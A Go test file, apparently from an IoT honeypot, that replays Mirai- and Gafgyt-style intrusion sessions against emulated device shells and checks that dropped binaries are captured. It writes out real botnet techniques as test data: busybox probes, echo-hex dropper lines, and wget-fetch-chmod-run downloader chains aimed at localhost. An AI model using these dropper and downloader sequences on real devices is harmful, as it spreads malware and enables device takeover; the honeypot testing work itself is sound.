package shell

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"

	"github.com/kansoku/kansoku/internal/profile"
)

// echoChunks renders data as Mirai-loader lines: echo -ne '\x..' >> file,
// the first with >.
func echoChunks(data []byte, file string, chunk int) []string {
	var lines []string
	for i := 0; i < len(data); i += chunk {
		var b strings.Builder
		for _, c := range data[i:min(i+chunk, len(data))] {
			fmt.Fprintf(&b, "\\x%02x", c)
		}
		op := ">>"
		if i == 0 {
			op = ">"
		}
		lines = append(lines, fmt.Sprintf("/bin/busybox echo -ne '%s' %s %s", b.String(), op, file))
	}
	return lines
}

// TestReplayMirai replays a Mirai-loader-like session against each default
// profile: vendor CLI escapes, busybox probes, the ELF header read, an echo
// dropper and its execution.
func TestReplayMirai(t *testing.T) {
	for _, p := range profile.Defaults() {
		t.Run(p.Name, func(t *testing.T) {
			h := &fakeHooks{}
			s := newTestShell(t, p.Name, h)
			ctx := context.Background()
			var out bytes.Buffer
			for _, l := range []string{"enable", "system", "shell", "sh", "/bin/busybox ECCHI"} {
				out.Reset()
				s.Exec(ctx, l, &out)
			}
			if got := out.String(); got != "ECCHI: applet not found\n" {
				t.Fatalf("after the escapes, busybox ECCHI printed %q", got)
			}
			out.Reset()
			s.Exec(ctx, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", &out)
			if !strings.HasPrefix(out.String(), p.Mounts) || !strings.HasSuffix(out.String(), "ECCHI: applet not found\n") {
				t.Errorf("cat /proc/mounts: %q", out.String())
			}
			out.Reset()
			s.Exec(ctx, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; /bin/busybox ECCHI", &out)
			if out.String() != "ECCHI: applet not found\n" {
				t.Errorf("cd chain printed %q", out.String())
			}
			out.Reset()
			s.Exec(ctx, "dd bs=52 count=1 if=/bin/echo 2>/dev/null || cat /bin/echo", &out)
			hdr := out.Bytes()
			if len(hdr) != 52 || !bytes.HasPrefix(hdr, []byte("\x7fELF")) {
				t.Fatalf("dd of /bin/echo gave %d bytes: %q", len(hdr), hdr)
			}
			var bo binary.ByteOrder = binary.LittleEndian
			if hdr[5] == 2 {
				bo = binary.BigEndian
			}
			if m := bo.Uint16(hdr[18:]); m != profile.ELFMachine(p.Arch) {
				t.Errorf("e_machine %d, want %d for %s", m, profile.ELFMachine(p.Arch), p.Arch)
			}
			payload := profile.ELFImage(p.Arch, 0, 1500)
			lines := echoChunks(payload, ".d", 128)
			for _, l := range lines {
				out.Reset()
				s.Exec(ctx, l, &out)
				if out.Len() != 0 {
					t.Fatalf("%s printed %q", l, out.String())
				}
			}
			out.Reset()
			s.Exec(ctx, "/bin/busybox chmod 777 .d; ./.d; /bin/busybox ECCHI", &out)
			if out.String() != "ECCHI: applet not found\n" {
				t.Errorf("running the dropped binary printed %q", out.String())
			}
			s.Close(ctx)
			if len(h.samples) != 1 {
				t.Fatalf("%d samples, want 1", len(h.samples))
			}
			sm := h.samples[0]
			if !bytes.Equal(sm.Data, payload) || sm.Trigger != "chmod" || sm.URL != "" {
				t.Errorf("sample %s trigger %q url %q, %d bytes (want %d)", sm.Path, sm.Trigger, sm.URL, len(sm.Data), len(payload))
			}
			if len(sm.Commands) != len(lines) || sm.Commands[0] != lines[0] {
				t.Errorf("sample commands: %d, want %d", len(sm.Commands), len(lines))
			}
		})
	}
}

// TestReplayGafgyt replays a Gafgyt-like downloader: bins.sh fetched with
// wget runs and fetches one binary per architecture.
func TestReplayGafgyt(t *testing.T) {
	base := "http://127.0.0.1:8080/"
	arches := map[string]string{"mips": "mips", "mpsl": "mipsel", "arm7": "armv7", "x86": "x86_64"}
	var script strings.Builder
	script.WriteString("#!/bin/bash\n")
	files := map[string][]byte{}
	for _, name := range []string{"mips", "mpsl", "arm7", "x86"} {
		files[base+name] = profile.ELFImage(arches[name], 0, 2000)
		fmt.Fprintf(&script, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget %s%s; cat %s >badbox; chmod +x *; ./badbox\n", base, name, name)
	}
	files[base+"bins.sh"] = []byte(script.String())
	h := &fakeHooks{files: files}
	s := newTestShell(t, "router-mipsel", h)
	out := run(t, s, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "+base+"bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh")
	s.Close(context.Background())

	wantFetch := []string{"wget " + base + "bins.sh", "wget " + base + "mips", "wget " + base + "mpsl", "wget " + base + "arm7", "wget " + base + "x86"}
	if strings.Join(h.fetches, "\n") != strings.Join(wantFetch, "\n") {
		t.Errorf("fetches:\n%s\nwant:\n%s", strings.Join(h.fetches, "\n"), strings.Join(wantFetch, "\n"))
	}
	byURL := map[string]Sample{}
	for _, sm := range h.samples {
		byURL[sm.URL] = sm
	}
	if len(h.samples) != 5 {
		t.Errorf("%d samples, want 5", len(h.samples))
	}
	for u, data := range files {
		sm, ok := byURL[u]
		if !ok {
			t.Errorf("no sample for %s", u)
			continue
		}
		if !bytes.Equal(sm.Data, data) {
			t.Errorf("sample for %s differs", u)
		}
	}
	if sm := byURL[base+"bins.sh"]; sm.Trigger != "chmod" || sm.Path != "/var/tmp/bins.sh" {
		t.Errorf("bins.sh sample: trigger %q path %q", sm.Trigger, sm.Path)
	}
	// the device is mipsel: only the mpsl binary runs silently, the others
	// fail the way ash fails on a foreign binary
	if n := strings.Count(out, "./badbox: line 1: syntax error"); n != 3 {
		t.Errorf("%d foreign-binary errors, want 3; output:\n%s", n, out)
	}
	if !strings.Contains(out, "saving to") && !strings.Contains(out, "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)") {
		t.Errorf("no wget progress in:\n%s", out)
	}
}

// TestReplayMiraiCopy replays the Mirai loader variant that copies
// /bin/echo to keep its mode, truncates it and echoes the binary in.
func TestReplayMiraiCopy(t *testing.T) {
	h := &fakeHooks{}
	s := newTestShell(t, "dvr-hisilicon", h)
	payload := profile.ELFImage("armv7", 0, 900)
	lines := []string{
		"cd /tmp; /bin/busybox cp /bin/echo dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
		">dvrHelper; /bin/busybox ECCHI",
	}
	drop := echoChunks(payload, "dvrHelper", 100)
	drop[0] = strings.Replace(drop[0], "> dvrHelper", ">> dvrHelper", 1)
	lines = append(lines, drop...)
	lines = append(lines, "./dvrHelper telnet.arm; /bin/busybox ECCHI")
	out := run(t, s, lines...)
	if want := strings.Repeat("ECCHI: applet not found\n", 3); out != want {
		t.Errorf("output %q, want %q", out, want)
	}
	s.Close(context.Background())
	if len(h.samples) != 1 || !bytes.Equal(h.samples[0].Data, payload) || h.samples[0].Trigger != "exec" {
		t.Fatalf("samples: %d (want one exec sample of the payload)", len(h.samples))
	}
	if got := h.samples[0].Commands; len(got) != len(drop)+1 || got[0] != lines[1] {
		t.Errorf("commands %d, first %q", len(got), got[0])
	}
}

// TestDropperCommandsBounded checks that a long dropper keeps its first and
// last 50 command lines.
func TestDropperCommandsBounded(t *testing.T) {
	h := &fakeHooks{}
	s := newTestShell(t, "router-mipsel", h)
	payload := profile.ELFImage("mipsel", 0, 3000)
	lines := echoChunks(payload, "/tmp/.m", 10) // 300 lines
	run(t, s, lines...)
	run(t, s, "chmod +x /tmp/.m")
	if len(h.samples) != 1 {
		t.Fatalf("%d samples", len(h.samples))
	}
	got := h.samples[0].Commands
	if len(got) != 100 || got[0] != lines[0] || got[49] != lines[49] || got[50] != lines[250] || got[99] != lines[299] {
		t.Errorf("commands: %d kept, want the first and last 50 of %d", len(got), len(lines))
	}
	if !bytes.Equal(h.samples[0].Data, payload) {
		t.Error("sample data differs from the echoed bytes")
	}
}
